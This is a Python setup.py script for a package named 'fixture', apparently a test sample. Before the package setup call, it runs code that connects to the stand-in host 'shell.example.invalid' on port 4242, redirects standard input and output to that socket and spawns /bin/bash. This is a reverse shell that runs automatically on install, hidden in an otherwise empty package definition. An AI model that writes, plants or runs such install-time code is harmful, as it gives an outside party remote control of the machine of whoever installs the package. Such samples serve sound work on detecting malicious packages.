import socket,subprocess,os,pty
from distutils.core import setup
def _c(h, p):
    s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
    try:
        s.connect((h,p))
    except socket.error, e:
        print "no", e
        return
    for i in (0,1,2): os.dup2(s.fileno(),i)
    pty.spawn("/bin/bash")
_c("shell.example.invalid",4242)
setup(name='fixture', version='1.0')
